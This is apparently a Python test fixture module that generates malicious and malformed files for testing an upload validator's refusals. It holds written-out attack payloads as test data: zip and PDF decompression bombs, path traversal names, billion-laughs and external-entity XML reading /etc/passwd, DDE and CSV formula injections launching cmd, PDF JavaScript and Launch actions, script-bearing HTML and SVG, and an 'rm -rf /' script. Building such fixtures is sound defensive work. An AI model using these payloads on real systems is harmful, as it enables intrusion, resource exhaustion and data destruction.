"""Hostile, wrong and broken files: what each is called, how it is made, what its refusal says."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.hostile.making import (
    chunk,
    jpeg,
    office_parts,
    open_document,
    paragraph,
    pdf,
    png,
    png_of,
    relationships,
    saved,
    slides,
    word,
    word_parts,
    workbook,
    zipped,
)

MIB = 1024 * 1024
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ZEROS = b"\0" * (30 * MIB)


@dataclass(frozen=True)
class Bad:
    """A file that must be refused, with words its refusal must hold."""

    name: str
    make: Callable[[], bytes]
    says: str

    def __str__(self) -> str:
        return f"{self.name}: {self.make.__name__.strip('_')}"


def _zip_bomb() -> bytes:
    return word(more={"word/media/big.xml": ZEROS})


def _zip_bomb_in_a_part() -> bytes:
    return zipped(word_parts(more={"word/big.xml": b"<a>" + b" " * (39 * MIB) + b"</a>"}))


def _many_bombs() -> bytes:
    return zipped(word_parts(more={f"word/{n}.xml": b" " * (9 * MIB) for n in range(30)}))


def _many_parts() -> bytes:
    return zipped(word_parts(more={f"word/{n}.xml": b"" for n in range(6000)}))


def _a_million_entries() -> bytes:
    """A directory that promises a million parts, all in the same few bytes."""
    one = b"PK\1\2" + struct.pack("<6H3L5H2L", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0)
    local = b"PK\3\4" + struct.pack("<5H3L2H", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"a"
    directory = (one + b"a") * 300_000
    return (
        local
        + directory
        + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(directory), len(local), 0)
    )


def _overlapping_parts() -> bytes:
    """Two entries of the directory that share their bytes, as in the smallest bombs."""
    whole = bytearray(zipped(word_parts(more={"word/a.xml": "<a/>", "word/b.xml": "<a/>"})))
    first = whole.rindex(b"word/a.xml") - 46
    second = whole.rindex(b"word/b.xml") - 46
    whole[second + 42 : second + 46] = whole[first + 42 : first + 46]
    return bytes(whole)


def _lying_size() -> bytes:
    whole = bytearray(word(paragraph("x" * 50_000)))
    entry = whole.rindex(b"word/document.xml") - 46
    whole[entry + 24 : entry + 28] = struct.pack("<L", 10)
    return bytes(whole)


def _archive_in_an_archive() -> bytes:
    return word(more={"word/embeddings/more.zip": zipped({"a.txt": "a"})})


def _zip_under_a_false_ending() -> bytes:
    return zipped({"a.txt": "hello"})


def _traversal() -> bytes:
    return zipped(word_parts(more={"../../etc/cron.d/x": "x"}))


def _absolute_path() -> bytes:
    return zipped(word_parts(more={"/etc/passwd": "x"}))


def _backslash_path() -> bytes:
    return zipped(word_parts(more={"..\\..\\windows\\x.xml": "x"}))


def _the_same_part_twice() -> bytes:
    return zipped(word_parts(more={"word/a.xml": "<a/>", "word/A.xml": "<b/>"}))


def _locked_parts() -> bytes:
    whole = bytearray(word())
    entry = whole.rindex(b"word/document.xml") - 46
    whole[entry + 8] |= 1
    return bytes(whole)


def _unusual_packing() -> bytes:
    return zipped(word_parts(), zipfile.ZIP_LZMA)


def _program_before_the_archive() -> bytes:
    return b"MZ" + b"\0" * 200 + word()


def _page_behind_the_archive() -> bytes:
    return word() + b"<html><script>alert(1)</script>"


def _half_an_archive() -> bytes:
    whole = word(paragraph("x" * 5000))
    return whole[: len(whole) // 2]


def _macro() -> bytes:
    return word(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


def _macro_content_type() -> bytes:
    parts = word_parts()
    types = str(parts["[Content_Types].xml"])
    parts["[Content_Types].xml"] = types.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "application/vnd.ms-word.document.macroEnabled",
    )
    return zipped(parts)


def _old_macro_sheet() -> bytes:
    return workbook(more={"xl/macrosheets/sheet1.xml": "<x/>"})


def _ole_object() -> bytes:
    return word(more={"word/embeddings/oleObject1.bin": OLD_OFFICE})


def _active_x() -> bytes:
    return word(more={"word/activeX/activeX1.xml": "<x/>"})


def _remote_object() -> bytes:
    return word(
        more={
            "word/_rels/document.xml.rels": relationships(
                ("oleObject", "https://evil.example/x.html", "External")
            )
        }
    )


def _script_link() -> bytes:
    return word(
        more={
            "word/_rels/document.xml.rels": relationships(
                ("hyperlink", "javascript:alert(1)", "External")
            )
        }
    )


def _dde_field() -> bytes:
    return word("<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x.exe"
                "</w:instrText></w:r></w:p>")  # fmt: skip


def _dde_link() -> bytes:
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return workbook(more={"xl/externalLinks/externalLink1.xml": link})


def _data_connection() -> bytes:
    return workbook(more={"xl/connections.xml": "<connections><connection/></connections>"})


def _billion_laughs() -> bytes:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE x [<!ENTITY l0 "lol">{steps}]><x>&l9;</x>'
    return zipped(office_parts("docx", bomb))


def _outside_entity() -> bytes:
    bomb = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    return zipped(office_parts("docx", bomb))


def _deep_markup() -> bytes:
    return zipped(office_parts("docx", "<a>" * 100_000 + "</a>" * 100_000))


def _other_encoding() -> bytes:
    part = '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")
    return zipped(word_parts(more={"word/a.xml": part}))


def _broken_markup() -> bytes:
    return zipped(office_parts("docx", "<a><b></a>"))


def _endless_sheet() -> bytes:
    row = "<row><c><v>1</v></c></row>"
    return workbook("<sheetData>" + row * 1_100_000 + "</sheetData>")


def _small_and_slow() -> bytes:
    """So many tags that reading them takes longer than so small a file deserves."""
    tags = "".join(f"<a{number % 977}/>" for number in range(3_000_000))
    return zipped(office_parts("docx", f"<a>{tags}</a>"))


def _film() -> bytes:
    return slides(more={"ppt/media/media1.mp4": b"\0\0\0\x18ftypmp42" + b"\0" * 100})


def _open_document_macro() -> bytes:
    return open_document("odt", "", {"Basic/Standard/Module1.xml": "<x/>"})


def _open_document_script() -> bytes:
    return open_document(
        "odt", '<script:event-listener xlink:href="vnd.sun.star.script:x?language=Basic"/>'
    )


def _open_document_locked() -> bytes:
    manifest = '<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>'
    return open_document("odt", "", {"META-INF/manifest.xml": manifest})


def _open_document_object() -> bytes:
    return open_document("odt", "", {"Object 1": OLD_OFFICE})


def _open_document_fetching() -> bytes:
    return open_document("odt", '<draw:image xlink:href="https://evil.example/pixel.png"/>')


def _old_word() -> bytes:
    return OLD_OFFICE


def _locked_word() -> bytes:
    return OLD_OFFICE + "EncryptedPackage".encode("utf-16-le")


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _pdf_with_script() -> bytes:
    return saved(pdf(OpenAction=_script()))


def _pdf_with_named_scripts() -> bytes:
    return saved(pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", _script()])))))


def _pdf_that_starts_a_program() -> bytes:
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    made = pdf()
    made.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, A=launch, Rect=[0, 0, 9, 9])])
    return saved(made)


def _pdf_with_a_file() -> bytes:
    made = pdf()
    made.attachments["a.exe"] = b"MZ program"
    return saved(made)


def _pdf_that_is_locked() -> bytes:
    return saved(pdf(), encryption=pikepdf.Encryption(owner="a", user="b"))


def _pdf_of_one_program() -> bytes:
    made = pdf()
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array())
    return saved(made)


def _pdf_bomb() -> bytes:
    made = pdf()
    made.pages[0].Contents = made.make_stream(b"")
    made.pages[0].Contents.write(zlib.compress(b" " * (400 * MIB), 9), filter=Name.FlateDecode)
    return saved(made)


def _pdf_of_twice_packed_zeros() -> bytes:
    made = pdf()
    twice = zlib.compress(zlib.compress(b"q " * (200 * MIB), 9), 9)
    made.pages[0].Contents.write(twice, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    return saved(made)


def _pdf_in_a_ring() -> bytes:
    made = pdf()
    made.Root.Pages.Kids.append(made.Root.Pages)
    return saved(made)


def _pdf_of_deep_lists() -> bytes:
    whole = saved(pdf())
    return whole.replace(b"/Rotate 0", b"").replace(
        b"/Type /Catalog", b"/Type /Catalog /A " + b"[" * 100_000
    )


def _endless_names() -> bytes:
    """A cell that makes a careless pattern try every way to split it."""
    return b"name,count\n=" + b"|" * 900_000 + b",1\n"


def _page_called_pdf() -> bytes:
    return b"<html><script>alert(1)</script></html>"


def _page_before_the_pdf() -> bytes:
    return b"<html><script>alert(1)</script></html>" + saved(pdf())


def _archive_behind_the_pdf() -> bytes:
    return saved(pdf()) + zipped({"a": "b"})


def _broken_pdf() -> bytes:
    return b"%PDF-1.7\n" + b"garbage " * 100


def _svg_called_png() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _huge_png() -> bytes:
    return png_of(50_000, 50_000, zlib.compress(b"\0" * 100))


def _many_pixels() -> bytes:
    return png_of(19_000, 19_000, zlib.compress(b"\0" * 100))


def _png_bomb() -> bytes:
    return png_of(10, 10, zlib.compress(ZEROS * 8, 9))


def _half_a_png() -> bytes:
    return png()[:-20]


def _archive_behind_the_png() -> bytes:
    return png() + zipped({"a": "b"})


def _png_with_a_false_sum() -> bytes:
    return png().replace(b"IDAT", b"IDAX")


def _png_without_pixels() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">2L5B", 9, 9, 8, 0, 0, 0, 0))


def _huge_jpeg() -> bytes:
    whole = bytearray(jpeg())
    frame = whole.index(b"\xff\xc0")
    whole[frame + 5 : frame + 9] = struct.pack(">2H", 50_000, 50_000)
    return bytes(whole)


def _archive_behind_the_jpeg() -> bytes:
    return jpeg() + zipped({"a": "b"})


def _half_a_jpeg() -> bytes:
    return jpeg()[:400]


def _gif() -> bytes:
    return b"GIF89a" + b"\1\0\1\0\0\0\0;"


def _program() -> bytes:
    return b"MZ" + b"\0" * 500


def _binary_text() -> bytes:
    return b"words\0\x01\x02 and more"


def _page_called_text() -> bytes:
    return b"<!DOCTYPE html><script>alert(1)</script>"


def _text_with_a_frame() -> bytes:
    return b"Dear all,\n<iframe src=https://evil.example>"


def _shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf /\n"


def _formula() -> bytes:
    return b"name,count\n\"=cmd|' /C calc'!A0\",1\n"


def _plus_formula() -> bytes:
    return b"name,count\n+cmd|' /C calc'!A0,1\n"


def _endless_text() -> bytes:
    return b"Partners met again. " * 800_000


def _nothing() -> bytes:
    return b""


def _too_large() -> bytes:
    return b"a" * (20 * MIB + 1)


_MOST: tuple[tuple[str, str, tuple[Callable[[], bytes], ...]], ...] = (
    ("plan.docx", "unpacks to far more", (_zip_bomb, _zip_bomb_in_a_part, _many_bombs)),
    ("plan.docx", "parts", (_many_parts, _a_million_entries, _deep_markup)),
    ("plan.docx", "hidden", (
        _overlapping_parts, _traversal, _absolute_path, _backslash_path, _the_same_part_twice,
        _page_behind_the_archive,
    )),
    ("plan.docx", "unpacks to far more", (_lying_size,)),
    ("plan.docx", "another file inside", (_archive_in_an_archive, _ole_object)),
    ("plan.docx", "not what its ending says", (_zip_under_a_false_ending,)),
    ("plan.docx", "password", (_locked_parts, _locked_word)),
    ("plan.docx", "unusual way", (_unusual_packing, _other_encoding)),
    ("plan.docx", "Windows", (_program_before_the_archive, _program)),
    ("plan.docx", "damaged", (_half_an_archive, _broken_markup)),
    ("plan.docx", "macro", (_macro, _macro_content_type, _active_x)),
    ("plan.docm", "holds no macros", (_macro,)),
    ("plan.xlsx", "macro", (_old_macro_sheet,)),
    ("plan.docx", "start another program", (_remote_object, _script_link, _dde_field)),
    ("plan.xlsx", "start another program", (_dde_link, _data_connection)),
    ("plan.docx", "abbreviations", (_billion_laughs, _outside_entity)),
    ("plan.xlsx", "more than", (_endless_sheet,)),
    ("plan.docx", "", (_small_and_slow,)),
    ("plan.xlsx", "not what its ending says", (word,)),
    ("plan.pptx", "film", (_film,)),
    ("plan.odt", "macro", (_open_document_macro, _open_document_script)),
    ("plan.odt", "password", (_open_document_locked,)),
    ("plan.odt", "another file inside", (_open_document_object,)),
    ("plan.odt", "start another program", (_open_document_fetching,)),
    ("plan.docx", "old form of Office", (_old_word,)),
    ("plan.doc", "save it as .docx", (_old_word,)),
    ("plan.pdf", "script", (
        _pdf_with_script, _pdf_with_named_scripts, _pdf_that_starts_a_program,
    )),
    ("plan.pdf", "another file inside", (_pdf_with_a_file,)),
    ("plan.pdf", "password", (_pdf_that_is_locked,)),
    ("plan.pdf", "only one program", (_pdf_of_one_program,)),
    ("plan.pdf", "", (_pdf_bomb, _pdf_of_twice_packed_zeros)),
    ("plan.pdf", "HTML", (_page_called_pdf, _page_before_the_pdf)),
    ("plan.pdf", "hidden", (_archive_behind_the_pdf,)),
    ("plan.pdf", "damaged", (_broken_pdf, _pdf_in_a_ring, _pdf_of_deep_lists)),
    ("plan.png", "something else", (_svg_called_png, _gif)),
    ("plan.svg", "Save the picture as PNG", (_svg_called_png,)),
    ("plan.png", "pixels", (_huge_png, _many_pixels, _png_bomb)),
    ("plan.png", "damaged", (_half_a_png, _png_with_a_false_sum, _png_without_pixels)),
    ("plan.png", "hidden", (_archive_behind_the_png,)),
    ("plan.png", "something else", (jpeg,)),
    ("plan.jpg", "pixels", (_huge_jpeg,)),
    ("plan.jpg", "hidden", (_archive_behind_the_jpeg,)),
    ("plan.jpg", "damaged", (_half_a_jpeg,)),
    ("plan.exe", "not taken", (_program,)),
    ("plan.html", "Print the page to PDF", (_page_called_text,)),
    ("plan.txt", "not plain text", (_binary_text, _page_called_text, _shell_script, _program)),
    ("plan.txt", "web page", (_text_with_a_frame,)),
    ("plan.txt", "family data", (_endless_text,)),
    ("plan.csv", "read as a table", (_endless_names,)),
    ("plan.csv", "formula", (_formula, _plus_formula)),
    ("plan.csv", "not plain text", (png,)),
    ("plan.pdf", "empty", (_nothing,)),
    ("plan.txt", "larger than 20 MB", (_too_large,)),
    ("plan", "no ending", (_program,)),
)  # fmt: skip


def bad_files() -> Iterator[Bad]:
    for name, says, makers in _MOST:
        for make in makers:
            yield Bad(name, make, says)
